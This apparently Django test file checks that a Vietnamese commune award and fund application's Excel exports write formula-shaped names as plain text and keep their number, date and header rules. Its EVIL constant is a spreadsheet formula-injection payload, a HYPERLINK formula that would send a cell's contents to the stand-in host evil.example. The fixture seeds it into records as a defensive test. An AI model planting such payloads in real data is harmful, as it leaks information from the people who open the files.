"""Every Excel export of the application, read back with openpyxl (issue #22 hole 6, issue #23
item 4): a person, unit, movement or donor named like a spreadsheet formula comes out as the
text typed — a string cell, never a formula, not even in the raw XML — and the numeric columns
hold numbers (amounts, counts, years, values) and dates, with the unit in the header; every
sheet has a whole name, a frozen header row and a filter."""
from __future__ import annotations

import datetime
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from thidua.documents.reports import builder, output
from thidua.funds.models import Fund, FundReceipt, TalentDonation
from thidua.movements.models import Movement, MovementResult
from thidua.org.models import Organisation, Person

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'
TEXT_HEADERS = {"Số quyết định", "Số CCCD", "Năm học, giai đoạn"}


def _kind(header: str) -> str:
    """What a column must hold, from its header alone."""
    if header in TEXT_HEADERS:
        return "text"
    if header.startswith("Ngày"):
        return "date"
    if (header.endswith(("(đồng)", "(%)")) or header.startswith(("Số ", "Điểm", "Tổng điểm")) or
            header in {"STT", "Năm", "Hạng", "Giá trị", "Cộng", "Tổng số", "Cá nhân", "Tập thể", "Hộ gia đình"}
            or re.fullmatch(r"(19|20)\d\d", header)):
        return "number"
    return "text"


def _check_workbook(content: bytes, *, expect_evil: bool = True) -> dict:
    """Asserts the rules on every sheet; returns {sheet: (header, rows)}."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    wb = load_workbook(io.BytesIO(content))
    found_evil, sheets = False, {}
    for ws in wb.worksheets:
        assert 0 < len(ws.title) <= 31
        assert ws.freeze_panes and ws.auto_filter.ref, ws.title
        header_row = int(re.match(r"[A-Z]+(\d+)", ws.auto_filter.ref).group(1))
        last_row = int(re.search(r"(\d+)$", ws.auto_filter.ref).group(1))
        headers = [c.value for c in ws[header_row]]
        rows = []
        for row in ws.iter_rows(min_row=header_row + 1, max_row=last_row):
            rows.append([c.value for c in row])
            for header, cell in zip(headers, row):
                assert cell.data_type != "f", (ws.title, cell.coordinate)
                if cell.value == EVIL:
                    found_evil = True
                    assert cell.data_type == "s" and cell.quotePrefix
                if cell.value in (None, "") or header is None:
                    continue
                kind = _kind(header)
                if kind == "number" and not (isinstance(cell.value, str) and row[0].value in ("Cộng", "Tổng cộng")):
                    assert isinstance(cell.value, (int, float)), (ws.title, header, cell.coordinate, cell.value)
                    assert cell.number_format in ("#,##0", "#,##0.##", "0"), (ws.title, header, cell.number_format)
                elif kind == "date":
                    assert isinstance(cell.value, datetime.datetime), (ws.title, header, cell.value)
                    assert cell.number_format == "dd/mm/yyyy"
        sheets[ws.title] = (headers, rows)
    assert found_evil or not expect_evil
    return sheets


@pytest.fixture
def evil_world(db):
    """Every person, unit, movement and donor of the commune renamed as a formula."""
    Person.objects.update(full_name=EVIL)
    Organisation.objects.exclude(parent=None).exclude(kind="commune").update(name=EVIL)
    Movement.objects.update(name=EVIL)
    MovementResult.objects.update(indicator=EVIL)
    TalentDonation.objects.update(donor_name=EVIL)
    fund = Fund.objects.order_by("-year").first()
    FundReceipt.objects.create(fund=fund, kind=FundReceipt.Kind.DONATION, donor=EVIL,
                               date=datetime.date(fund.year, 3, 2), amount=3_450_000, reference="PT-01")
    return fund


def _get(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    return response.content


def test_the_ledger_and_fund_pages_link_to_their_excel(client_as, evil_world):
    client = client_as("canbotdkt")
    assert "?nam=2024&amp;xuat=xlsx" in client.get("/khen-thuong/so-khen-thuong/?nam=2024").content.decode()
    assert "?xuat=xlsx" in client.get(f"/quy/{evil_world.year}/").content.decode()


def test_the_candidate_lists_and_the_award_ledger(client_as, evil_world):
    client = client_as("canbotdkt")
    _check_workbook(_get(client, "/khen-thuong/du-dieu-kien/?xuat=xlsx"))
    sheets = _check_workbook(_get(client, "/khen-thuong/so-khen-thuong/?xuat=xlsx"))
    (headers, rows), = sheets.values()
    assert "Tiền thưởng (đồng)" in headers and "Ngày quyết định" in headers
    amounts = [r[headers.index("Tiền thưởng (đồng)")] for r in rows if r[headers.index("Tiền thưởng (đồng)")]]
    assert amounts and all(isinstance(a, int) for a in amounts)


def test_the_ledger_export_follows_the_year_filter_and_the_clerks_scope(client_as, evil_world):
    everyone = _check_workbook(_get(client_as("canbotdkt"), "/khen-thuong/so-khen-thuong/?xuat=xlsx&nam=2024"))
    (headers, rows), = everyone.values()
    assert {r[headers.index("Năm")] for r in rows} == {2024}
    assert rows
    clerk = _check_workbook(_get(client_as("vanthu_mnhp"), "/khen-thuong/so-khen-thuong/?xuat=xlsx&nam=2024"),
                            expect_evil=False)
    (_h, clerk_rows), = clerk.values()
    assert len(clerk_rows) < len(rows)


def test_the_movement_tables(client_as, evil_world):
    client = client_as("canbotdkt")
    sheets = _check_workbook(_get(client, "/phong-trao/nam/2025/excel/"))
    (headers, rows), = sheets.values()
    values = [r[headers.index("Giá trị")] for r in rows if r[headers.index("Giá trị")] is not None]
    assert values and all(isinstance(v, (int, float)) for v in values)  # not "100 %", "41 nhà"
    _check_workbook(_get(client, "/phong-trao/dang-ky/2026/excel/"))
    _check_workbook(_get(client_as("hoidong"), "/phong-trao/xep-hang/2026/excel/"))


def test_the_reward_fund_and_the_youth_talent_fund(client_as, evil_world):
    client = client_as("kiemtra")
    sheets = _check_workbook(_get(client, f"/quy/{evil_world.year}/?xuat=xlsx"))
    headers, rows = sheets["Các khoản thu"]
    ours = next(r for r in rows if r[headers.index("Người, đơn vị ủng hộ")] == EVIL)
    assert ours[headers.index("Số tiền (đồng)")] == 3_450_000
    assert ours[headers.index("Ngày")] == datetime.datetime(evil_world.year, 3, 2)
    assert set(sheets) == {"Tổng hợp", "Các khoản thu", "Đã chi", "Cam kết"}
    _check_workbook(_get(client, "/quy/tai-nang-tre/?xuat=xlsx"))


def test_the_report_workbook(evil_world):
    commune = Movement.objects.exclude(results=None).first().commune
    report = builder.build_report(kind="five_year", commune=commune, year_from=2021, year_to=2025)
    sheets = _check_workbook(output.render_report_xlsx(report))
    assert all(len(name) <= 31 and not name.endswith((",", " ")) for name in sheets)
    headers, rows = sheets["Kết quả phong trào"]
    assert headers[3:7] == ["So sánh", "Giá trị", "Đơn vị tính", "Ghi chú"]
    assert any(isinstance(r[4], (int, float)) and r[5] for r in rows)


def test_the_import_templates_are_text_and_numbers_too(client_as):
    client = client_as("canbotdkt")
    for slug in ("ca-nhan", "don-vi", "xep-loai", "so-khen-thuong"):
        _check_workbook(_get(client, f"/du-lieu/nhap/mau/{slug}.xlsx"), expect_evil=False)
